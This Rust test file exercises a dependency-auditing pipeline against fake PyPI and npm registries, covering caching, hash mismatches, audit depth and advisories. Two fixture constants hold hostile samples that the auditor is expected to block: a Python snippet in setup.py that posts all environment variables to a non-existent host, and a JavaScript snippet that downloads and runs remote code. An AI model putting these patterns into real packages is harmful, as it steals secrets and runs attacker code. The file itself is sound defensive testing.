//! Audits from manifest to certificate, against fake ecosystems on loopback that the real clients talk to.

use std::sync::Arc;
use std::sync::atomic::{AtomicI64, Ordering};
use std::time::Duration;

use sigma_analysis::{Analyser, Limits};
use sigma_core::*;
use sigma_ecosystem::manifest::{self, ReadOptions};
use sigma_ecosystem::{EcosystemConfig, Ecosystems};
use sigma_pipeline::*;
use sigma_store::{Database, Store};
use sigma_testkit::{FakeEcosystem, Misbehaviour, NpmTarball, Sdist, Wheel, fresh_postgres};
use tempfile::TempDir;
use url::Url;

/// A fresh store, fresh fake ecosystems, and a clock that moves a second at each look.
struct Scene {
    eco: Arc<FakeEcosystem>,
    folder: TempDir,
    database: Database,
    time: Arc<AtomicI64>,
}

impl Scene {
    fn new() -> Self {
        Self::with(Arc::new(FakeEcosystem::start()))
    }

    /// A fresh store beside the same ecosystems.
    fn with(eco: Arc<FakeEcosystem>) -> Self {
        let folder = tempfile::tempdir().unwrap();
        std::fs::create_dir(folder.path().join("project")).unwrap();
        let database = fresh_postgres().map_or(Database::Embedded, |url| url.parse().unwrap());
        Self { eco, folder, database, time: Arc::new(AtomicI64::new(1_776_248_621_000)) }
    }

    fn file(&self, name: &str, text: &str) -> &Self {
        std::fs::write(self.folder.path().join("project").join(name), text).unwrap();
        self
    }

    async fn hall(&self, offline: bool) -> Hall {
        let url = |text: String| Url::parse(&text).unwrap();
        let root = self.folder.path().join("store");
        let store = Store::open(&root, &self.database).await.unwrap();
        let ecosystems = Ecosystems::new(EcosystemConfig {
            pypi_index: url(self.eco.pypi.index_url()),
            pypi_json: url(self.eco.pypi.json_url()),
            npm_registry: url(self.eco.npm.registry_url()),
            first_pause: Duration::from_millis(5),
            read_timeout: Duration::from_secs(5),
            offline,
            ..EcosystemConfig::official(root.join("cache"))
        });
        let time = self.time.clone();
        let clock = Arc::new(move || Timestamp::from_millis(time.fetch_add(1000, Ordering::Relaxed)));
        Hall::new(ecosystems.unwrap(), store, Analyser::new(Limits::default()), clock, HallConfig::default()).unwrap()
    }

    async fn try_audit(&self, options: AuditOptions, offline: bool) -> Result<Audit, AuditError> {
        let mut read = ReadOptions::default();
        read.pypi_indexes.push(Url::parse(&self.eco.pypi.index_url()).unwrap());
        read.npm_registries.push(Url::parse(&self.eco.npm.registry_url()).unwrap());
        let project = manifest::read(&self.folder.path().join("project"), &read).unwrap();
        self.hall(offline).await.audit_project(project.manifests, &options, &Silent).await
    }

    async fn audit(&self) -> Audit {
        self.try_audit(AuditOptions::default(), false).await.unwrap()
    }

    fn downloads(&self) -> usize {
        self.eco.pypi.downloads() + self.eco.npm.downloads()
    }
}

/// One line a package, and the decision.
fn lines(audit: &Audit) -> String {
    let mut lines: Vec<String> = audit
        .rows
        .iter()
        .map(|row| {
            let state = match &row.state {
                RowState::Cached(certificate) => format!("cached {}", certificate.payload().security_level),
                RowState::Audited(certificate) => format!("audited {}", certificate.payload().security_level),
                RowState::Uncertified(Uncertified::Mismatch(_)) => "mismatch".to_owned(),
                RowState::Uncertified(why) => why.describe().chars().take(60).collect(),
            };
            format!("{} {} {state}", row.package.id, row.package.depth)
        })
        .collect();
    lines.extend(audit.unresolved.iter().map(|one| format!("{} {:?}", one.name, one.reason)));
    lines.push(match Policy::default().decide(audit) {
        Decision::Pass => "pass".to_owned(),
        Decision::Fail(_) => "fail".to_owned(),
        Decision::Undecided(_) => "undecided".to_owned(),
    });
    lines.join("\n")
}

fn pure(name: &str, version: &str) -> Wheel {
    Wheel::new(name, version).file(&format!("{}/__init__.py", name.replace('-', "_")), "VALUE = 1\n")
}

#[tokio::test(flavor = "multi_thread")]
async fn a_second_run_answers_from_the_store() {
    let scene = Scene::new();
    scene.eco.pypi.add(pure("leaf", "1.2").build());
    scene.eco.pypi.add(Sdist::new("leaf", "1.2").file("leaf/__init__.py", "VALUE = 1\n").build());
    scene.eco.pypi.add(pure("demo", "2.0").requires("leaf>=1").build());
    scene.eco.npm.add(NpmTarball::new("@scope/tool", "1.0.0").file("index.js", "module.exports = 1;\n").build());
    scene.file("requirements.txt", "demo>=1\n").file("package.json", r#"{"dependencies": {"@scope/tool": "^1.0.0"}}"#);

    let first = scene.audit().await;
    insta::assert_snapshot!(lines(&first), @r"
    pypi:demo@2.0 DIRECT audited CLEAR
    npm:@scope/tool@1.0.0 DIRECT audited CLEAR
    pypi:leaf@1.2 TRANSITIVE_L1 audited CLEAR
    pass
    ");
    let payload = first.rows[2].certificate().unwrap().payload();
    let names: Vec<&str> = payload.distributions.iter().map(|one| one.filename.as_str()).collect();
    assert_eq!(names, ["leaf-1.2-py3-none-any.whl", "leaf-1.2.tar.gz"], "the sdist is read too");
    assert_eq!(payload.distribution_sha256, payload.distributions[0].sha256);

    let downloads = scene.downloads();
    assert_eq!(downloads, 4);
    let second = scene.audit().await;
    insta::assert_snapshot!(lines(&second), @r"
    pypi:demo@2.0 DIRECT cached CLEAR
    npm:@scope/tool@1.0.0 DIRECT cached CLEAR
    pypi:leaf@1.2 TRANSITIVE_L1 cached CLEAR
    pass
    ");
    assert_eq!(scene.downloads(), downloads, "nothing is downloaded twice");
    let ids = |audit: &Audit| -> Vec<String> {
        audit.rows.iter().map(|row| row.certificate().unwrap().id().to_owned()).collect()
    };
    assert_eq!(ids(&first), ids(&second));
    let summary = second.package_analysis(&PriceTable::default()).summary;
    assert_eq!((summary.savings_usd, summary.uncached_cost_usd), (6, 0));

    let offline = scene.try_audit(AuditOptions::default(), true).await.unwrap();
    assert_eq!(lines(&offline), lines(&second), "the same answer without network");
}

#[tokio::test(flavor = "multi_thread")]
async fn wrong_bytes_block_and_stay_visible() {
    let scene = Scene::new();
    let built = scene.eco.pypi.add(pure("demo", "2.0").build());
    scene.file("requirements.txt", "demo==2.0\n");
    let path = Url::parse(&built.url).unwrap().path().to_owned();
    scene.eco.pypi.server.misbehave(&path, Misbehaviour::WrongBytes);

    let audit = scene.audit().await;
    insta::assert_snapshot!(lines(&audit), @r"
    pypi:demo@2.0 DIRECT mismatch
    fail
    ");
    scene.eco.pypi.server.behave();
    let audit = scene.audit().await;
    insta::assert_snapshot!(lines(&audit), @r"
    pypi:demo@2.0 DIRECT audited CLEAR
    pass
    ");
    let entry = &audit.package_analysis(&PriceTable::default()).packages[0];
    assert_eq!(
        entry.warnings.iter().map(|warning| warning.code.as_str()).collect::<Vec<_>>(),
        ["earlier-integrity-mismatch"]
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_pin_that_does_not_hold_blocks() {
    let scene = Scene::new();
    scene.eco.pypi.add(pure("demo", "2.0").build());
    scene.file("requirements.txt", &format!("demo==2.0 --hash=sha256:{}\n", Sha256::of(b"something else")));
    insta::assert_snapshot!(lines(&scene.audit().await), @r"
    pypi:demo@2.0 DIRECT mismatch
    fail
    ");
}

#[tokio::test(flavor = "multi_thread")]
async fn what_the_ecosystem_does_not_give_is_undecided() {
    let scene = Scene::new();
    let built = scene.eco.pypi.add(pure("demo", "2.0").build());
    scene.eco.pypi.add(pure("fine", "1.0").build());
    scene.file("requirements.txt", "demo==2.0\nfine==1.0\nghost==1.0\n");
    scene.eco.pypi.server.misbehave(Url::parse(&built.url).unwrap().path(), Misbehaviour::Status(500));
    let audit = scene.audit().await;
    let text = lines(&audit);
    assert!(text.contains("pypi:demo@2.0 DIRECT not fetched: "), "{text}");
    assert!(text.contains("pypi:fine@1.0 DIRECT audited CLEAR"), "{text}");
    assert!(text.contains("ghost UnknownPackage"), "{text}");
    assert!(text.ends_with("undecided"), "{text}");

    let scene = Scene::new();
    scene.file("requirements.txt", "demo==2.0\n");
    scene.eco.pypi.server.misbehave_everywhere(Misbehaviour::Status(500));
    let error = scene.try_audit(AuditOptions::default(), false).await.unwrap_err();
    assert!(matches!(error, AuditError::Resolve { .. }), "{error}");
}

#[tokio::test(flavor = "multi_thread")]
async fn depth_and_cap_bound_the_audit_and_are_disclosed() {
    let scene = Scene::new();
    for (name, requires) in [("a", Some("b")), ("b", Some("c")), ("c", Some("d")), ("d", Some("e")), ("e", None)] {
        let wheel = pure(name, "1");
        scene.eco.pypi.add(requires.map_or(pure(name, "1"), |other| wheel.requires(other)).build());
    }
    scene.file("requirements.txt", "a==1\n");
    let audit = scene.try_audit(AuditOptions { cap: 1, ..AuditOptions::default() }, false).await.unwrap();
    insta::assert_snapshot!(lines(&audit), @r"
    pypi:a@1 DIRECT audited CLEAR
    pypi:b@1 TRANSITIVE_L1 audited CLEAR
    pypi:c@1 TRANSITIVE_L2 beyond the transitive audit cap of 1
    pypi:d@1 TRANSITIVE_L3 beyond the transitive audit cap of 1
    pypi:e@1 BEYOND_L3 deeper than the audited levels
    undecided
    ");
    let disclosure = audit.package_analysis(&PriceTable::default()).transitive;
    assert_eq!(
        (disclosure.checked_l1, disclosure.beyond_cap, disclosure.beyond_depth, disclosure.uncertified),
        (1, 2, 1, 3)
    );

    // What the cap left out is taken up by the next audit; a shallower one is a pass of what it was asked for.
    let audit = scene.try_audit(AuditOptions { depth: 2, ..AuditOptions::default() }, false).await.unwrap();
    insta::assert_snapshot!(lines(&audit), @r"
    pypi:a@1 DIRECT cached CLEAR
    pypi:b@1 TRANSITIVE_L1 cached CLEAR
    pypi:c@1 TRANSITIVE_L2 audited CLEAR
    pypi:d@1 TRANSITIVE_L3 deeper than the audited levels
    pypi:e@1 BEYOND_L3 deeper than the audited levels
    pass
    ");
    let preview = scene.try_audit(AuditOptions { preview: true, ..AuditOptions::default() }, false).await.unwrap();
    assert!(lines(&preview).contains("pypi:d@1 TRANSITIVE_L3 not audited yet"));
}

#[tokio::test(flavor = "multi_thread")]
async fn audits_of_the_same_package_coalesce() {
    let scene = Scene::new();
    scene.eco.pypi.add(pure("demo", "2.0").build());
    scene.file("requirements.txt", "demo==2.0\n");
    let (one, two, three) = tokio::join!(scene.audit(), scene.audit(), scene.audit());
    let id = |audit: &Audit| audit.rows[0].certificate().unwrap().id().to_owned();
    assert_eq!((id(&one), id(&one)), (id(&two), id(&three)));
    assert_eq!(scene.eco.pypi.downloads(), 1);
    let audited =
        [&one, &two, &three].iter().filter(|audit| matches!(audit.rows[0].state, RowState::Audited(_))).count();
    assert_eq!(audited, 1);
}

/// Shows the technique and does nothing: the host does not exist.
const STEALER: &str = "import os, requests\n\
                       requests.post('https://collect.invalid/x', data=str(dict(os.environ)))\n";

#[tokio::test(flavor = "multi_thread")]
async fn a_thief_blocks_near_and_warns_far_away() {
    let scene = Scene::new();
    let thief = Sdist::new("thief", "1.0")
        .setup_py(&format!("from setuptools import setup\n{STEALER}setup(name='thief', version='1.0')\n"))
        .file("thief/__init__.py", STEALER);
    scene.eco.pypi.add(thief.build());
    scene.eco.pypi.add(Wheel::new("thief", "1.0").file("thief/__init__.py", STEALER).build());
    scene.eco.pypi.add(pure("far", "1").requires("near==1").build());
    scene.eco.pypi.add(pure("near", "1").requires("thief==1.0").build());
    scene.file("requirements.txt", "near==1\n");
    let audit = scene.audit().await;
    insta::assert_snapshot!(lines(&audit), @r"
    pypi:near@1 DIRECT audited CLEAR
    pypi:thief@1.0 TRANSITIVE_L1 audited BLOCKED
    fail
    ");
    let warnings = &audit.rows[1].certificate().unwrap().payload().retained_warnings;
    assert!(
        warnings.iter().any(|warning| warning.location.as_deref().is_some_and(|at| at.contains("setup.py:"))),
        "{warnings:#?}"
    );

    scene.file("requirements.txt", "far==1\n");
    let audit = scene.audit().await;
    insta::assert_snapshot!(lines(&audit), @r"
    pypi:far@1 DIRECT audited CLEAR
    pypi:near@1 TRANSITIVE_L1 cached CLEAR
    pypi:thief@1.0 TRANSITIVE_L2 cached BLOCKED
    pass
    ");
    let advisory_only = audit.package_analysis(&PriceTable::default()).transitive.blocked_advisory_only;
    assert_eq!(advisory_only[0].package, "pypi:thief@1.0");
}

#[tokio::test(flavor = "multi_thread")]
async fn advisories_are_facts_of_their_own() {
    let scene = Scene::new();
    scene.eco.pypi.add(pure("demo", "2.0").build());
    scene.eco.npm.add(NpmTarball::new("tool", "1.0.0").file("index.js", "module.exports = 1;\n").build());
    scene.eco.npm.advisories(
        "tool",
        "1.0.0",
        serde_json::json!({
            "id": 1, "url": "https://github.com/advisories/GHSA-aaaa-bbbb-cccc", "title": "A flaw", "severity": "high",
            "vulnerable_versions": "<2.0.0"
        }),
    );
    scene.eco.pypi.json_api(false);
    scene.file("requirements.txt", "demo==2.0\n").file("package.json", r#"{"dependencies": {"tool": "1.0.0"}}"#);
    let audit = scene.audit().await;
    let payload = |index: usize| audit.rows[index].certificate().unwrap().payload();
    let (pypi, npm) = (payload(0), payload(1));
    assert_eq!(
        (npm.registry_advisory_count, npm.registry_advisory_highest_severity),
        (Some(1), Some(AdvisorySeverity::High))
    );
    assert_eq!(npm.security_level, SecurityLevel::Clear, "an advisory does not replace the council's verdict");
    assert_eq!((pypi.registry_advisory_count, pypi.registry_advisory_state.as_str()), (None, "unavailable"));
    assert!(!pypi.registry_advisory_summary.contains("No known"), "{}", pypi.registry_advisory_summary);
    let policy = Policy { require_advisories: true, ..Policy::default() };
    assert!(matches!(policy.decide(&audit), Decision::Undecided(_)));
}

#[tokio::test(flavor = "multi_thread")]
async fn refusals_and_emptiness_are_not_a_pass() {
    let scene = Scene::new();
    scene.file("requirements.txt", "demo @ git+https://example.invalid/demo\n");
    let audit = scene.audit().await;
    assert_eq!(lines(&audit), "fail");
    assert_eq!(audit.refused[0].at.to_string(), "requirements.txt:1");
    scene.file("requirements.txt", "# nothing\n");
    assert_eq!(lines(&scene.audit().await), "undecided");
}

/// What the package always was.
const CLEAN: &str = "exports.send = (send, body) => send(body);\n";
/// Shows the technique and does nothing: the host does not exist.
const RUNNER: &str = "const { exec } = require('child_process');\n\
                      require('https').get('https://runner.invalid/x', (r) => r.on('data', (d) => exec(String(d))));\n";

fn tool(version: &str, text: &str) -> NpmTarball {
    NpmTarball::new("tool", version).file("index.js", text)
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_patch_release_brings_is_held_against_it_and_against_the_next() {
    let scene = Scene::new();
    scene.eco.npm.add(tool("1.0.0", CLEAN).build());
    for version in ["1.0.1", "1.0.2"] {
        scene.eco.npm.add(tool(version, &format!("{CLEAN}{RUNNER}")).build());
    }
    scene.eco.npm.add(tool("1.1.0", CLEAN).build());
    let mut found = String::new();
    for version in ["1.0.0", "1.0.1", "1.0.2", "1.1.0"] {
        scene.file("package.json", &format!(r#"{{"dependencies": {{"tool": "{version}"}}}}"#));
        let audit = scene.audit().await;
        let payload = audit.rows[0].certificate().unwrap().payload();
        let since = payload.delta.as_ref().map_or("no earlier version", |delta| delta.summary.as_str());
        found += &format!("{version} {}: {since}\n", payload.security_level);
        let told = audit.package_analysis(&PriceTable::default()).packages[0].new_since.is_some();
        assert_eq!(told, payload.security_level > SecurityLevel::Clear);
        let unknown = payload.disclosures.iter().any(|line| line.starts_with("No earlier version was certified"));
        assert_eq!(unknown, payload.delta.is_none());
    }
    insta::assert_snapshot!(found, @r"
    1.0.0 CLEAR: no earlier version
    1.0.1 BLOCKED: new since 1.0.0 (patch step): able to: dynamic-code, network-client, process and 1 more; hosts: runner.invalid; findings: download-execution
    1.0.2 BLOCKED: new since 1.0.0 (patch step): able to: dynamic-code, network-client, process and 1 more; hosts: runner.invalid; findings: download-execution
    1.1.0 CLEAR: nothing new since 1.0.0 (minor step)
    ");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_new_ruleset_does_not_make_old_code_look_new() {
    let scene = Scene::new();
    // A version that is BLOCKED would be nobody's predecessor: this one only does something.
    let starter = "exports.state = (done) => require('child_process').exec('git status', done);\n";
    let text = format!("{CLEAN}{starter}");
    scene.eco.npm.add(tool("1.0.0", &text).build());
    scene.eco.npm.add(tool("1.0.1", &text).package_json(serde_json::json!({"bin": "index.js"})).build());
    scene.file("package.json", r#"{"dependencies": {"tool": "1.0.0"}}"#);
    let first = scene.audit().await;
    let certificate = first.rows[0].certificate().unwrap();
    let sealed = scene.hall(false).await.store().certificate(certificate.id()).await.unwrap().unwrap();

    // The same certificate as an older ruleset would have sealed it, which saw nothing.
    let mut payload = certificate.payload().clone();
    payload.ruleset_version = "2020.1.1".to_owned();
    let mut report: Report = serde_json::from_slice(&sealed.report).unwrap();
    report.ruleset = "2020.1.1".to_owned();
    for distribution in &mut report.distributions {
        distribution.findings.clear();
        distribution.capabilities.clear();
        distribution.hosts.clear();
    }
    let older = sigma_store::Sealed {
        certificate: sigma_certificate::PackageCertificate::seal(payload.clone()).unwrap(),
        report: serde_json::to_vec(&report).unwrap(),
        round: sealed.round,
    };
    let bytes = tool("1.0.0", &text).build().bytes;
    for kept in [false, true] {
        let scene = Scene::with(scene.eco.clone());
        let hall = scene.hall(false).await;
        hall.store().insert(&older).await.unwrap();
        if kept {
            let entry = &payload.distributions[0];
            let (sha256, sha512, sha1, size) = (entry.sha256, entry.sha512, entry.sha1, entry.size);
            let file = hall.store().staging().join("tool");
            std::fs::write(&file, &bytes).unwrap();
            hall.store().blobs().adopt(&file, &Digests { sha256, sha512, sha1, size }).await.unwrap();
        }
        scene.file("package.json", r#"{"dependencies": {"tool": "1.0.1"}}"#);
        let audit = scene.audit().await;
        let delta = audit.rows[0].certificate().unwrap().payload().delta.clone().unwrap();
        assert_eq!((delta.entry_points.as_slice(), delta.capabilities.len()), (&["index.js".to_owned()][..], 0));
        assert_eq!(delta.uncompared.is_empty(), kept, "{delta:#?}");
        assert_eq!(delta.previous_ruleset_version == "2020.1.1", !kept);
    }
}
